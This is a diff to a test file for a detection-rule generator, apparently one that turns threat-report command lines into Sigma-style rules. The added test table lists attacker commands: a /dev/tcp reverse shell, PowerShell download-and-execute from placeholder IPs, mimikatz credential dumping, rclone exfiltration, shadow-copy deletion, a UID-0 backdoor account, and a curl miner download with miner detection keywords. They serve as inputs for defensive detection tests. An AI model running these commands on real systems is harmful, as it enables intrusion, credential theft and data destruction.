@@ -32,6 +32,31 @@ const SHOWN: Array<[string, TemplatePlatform, string]> = [
   ['net-user-add', 'windows', 'net user svc_backup P@ssw0rd1 /add'],
   ['net-admin-group-add', 'windows', 'net localgroup Administrators svc_backup /add'],
   ['nltest-trusts', 'windows', 'nltest /domain_trusts /all_trusts'],
+  ['bcdedit-elam', 'windows', 'bcdedit.exe /set {current} disableelamdrivers yes'],
+  ['psexec-remote', 'windows', 'PsExec64.exe \\\\FS02 -accepteula -s cmd /c C:\\Windows\\Temp\\d.bat'],
+  ['wmic-remote-process', 'windows', 'wmic /node:10.20.30.40 /user:corp\\adm process call create "cmd /c C:\\Temp\\r.bat"'],
+  ['pcalua-proxy', 'windows', 'pcalua.exe -a C:\\Users\\Public\\loader.exe'],
+  ['powershell-dns-txt', 'windows', 'powershell -w h -c "iex (Resolve-DnsName -Type TXT cfg.stage-relay.example).Strings"'],
+  ['anydesk-password', 'windows', 'AnyDesk.exe --install C:\\ProgramData\\AnyDesk --start-with-win --silent'],
+  ['ad-enumeration-tools', 'windows', 'adfind.exe -f "(objectcategory=computer)" -csv name'],
+  ['rclone-transfer', 'windows', 'rclone.exe copy \\\\FS02\\finance remote:loot --transfers 8 -q'],
+  ['mimikatz-commands', 'windows', 'C:\\Temp\\m64.exe "privilege::debug" "sekurlsa::logonpasswords" exit'],
+  ['crypto-miner', 'linux', 'tar -xzf /tmp/xmrig-6.21.0-linux-static-x64.tar.gz -C /tmp/.x'],
+  ['mshta-remote', 'windows', 'mshta.exe https://cdn-relay.example/app.hta'],
+  ['regsvr32-scriptlet', 'windows', 'regsvr32 /s /n /u /i:http://198.51.100.9/x.sct scrobj.dll'],
+  ['msiexec-remote', 'windows', 'msiexec /q /i https://updates-relay.example/agent.msi'],
+  ['shadow-copy-create', 'windows', 'vssadmin create shadow /for=C:'],
+  ['shadow-delete-powershell', 'windows', 'powershell -c "Get-WmiObject Win32_ShadowCopy | Remove-WmiObject"'],
+  ['icacls-everyone-full', 'windows', 'icacls "C:\\*" /grant Everyone:F /T /C /Q'],
+  ['net-domain-groups', 'windows', 'net group "Domain Admins" /domain'],
+  ['whoami-privileges', 'windows', 'whoami /priv'],
+  ['aws-cli-iam-persistence', 'linux', 'aws iam create-access-key --user-name svc-backup'],
+  ['aws-cli-secrets', 'linux', 'aws secretsmanager get-secret-value --secret-id prod/db --region us-east-1'],
+  ['offensive-powershell', 'windows', 'powershell -ep bypass -c "IEX (New-Object Net.WebClient).DownloadString(\'http://198.51.100.2/a.ps1\'); Invoke-ShareFinder -CheckShareAccess"'],
+  ['kerberos-ticket-tools', 'windows', 'C:\\Users\\Public\\svc.exe kerberoast /outfile:C:\\Users\\Public\\h.txt'],
+  ['impacket-exec-output', 'windows', 'cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1700000000.25 2>&1'],
+  ['dev-tcp-shell', 'linux', 'bash -c "bash -i >& /dev/tcp/198.51.100.3/4444 0>&1"'],
+  ['python-pty-shell', 'linux', 'python3 -c \'import pty; pty.spawn("/bin/bash")\''],
   ['xattr-quarantine', 'macos', 'xattr -d com.apple.quarantine /tmp/Installer.app'],
   ['dscl-authonly', 'macos', 'dscl /Local/Default -authonly jdoe hunter2'],
   ['security-keychain', 'macos', 'security find-generic-password -ga "Chrome" -w'],
@@ -41,6 +66,8 @@ const SHOWN: Array<[string, TemplatePlatform, string]> = [
   ['spctl-disable', 'macos', 'spctl --master-disable'],
   ['chattr-immutable', 'linux', 'chattr -i /etc/ld.so.preload'],
   ['firewall-flush', 'linux', 'iptables -F'],
+  ['uid0-account', 'linux', 'useradd -o -u 0 -g 0 -M sysadm'],
+  ['proc-hidepid', 'linux', 'mount -o remount,rw,hidepid=2 /proc'],
   ['container-escape', 'linux', 'nsenter -t 1 -m -u -i -n sh'],
 ];
 
@@ -89,6 +116,15 @@ describe('well-known techniques: rules keyed on the behaviour', () => {
       cmdlines: ['vssadmin delete shadows /all /quiet', 'vssadmin resize shadowstorage /for=C: /on=C: /maxsize=401MB', 'rundll32.exe C:\\ProgramData\\Intel\\upd.dll,Start'].map((value) => ({ ...item, value })),
     });
     expect(drafts.map((draft) => draft.rule.title)).toEqual(['Shadow Copies Deleted Via Vssadmin.EXE', 'Rundll32.EXE Execution Of DLL From Unusual Location']);
+  });
+
+  it('writes the rule of a technique any program shows besides the program\'s own rule', () => {
+    const drafts = generateBuiltinRules({ article, platform: 'linux', cmdlines: [{ ...item, value: 'curl -sL http://198.51.100.4/xmrig-6.21.0.tar.gz -o /tmp/.cache/x.tgz' }] });
+    expect(drafts.map((draft) => draft.rule.title)).toEqual(['Cryptocurrency Miner Downloaded Or Run', 'Curl Download From Remote Host']);
+    expect(drafts[0]?.rule.detection).toEqual({
+      selection: { 'CommandLine|contains': ['xmrig', 'stratum+tcp://', 'stratum+ssl://', 'stratum+tls://', '--donate-level', '--cpu-max-threads-hint', 'nicehash'] },
+      condition: 'selection',
+    });
   });
 
   it('needs the program and the pattern on the platform the table names', () => {
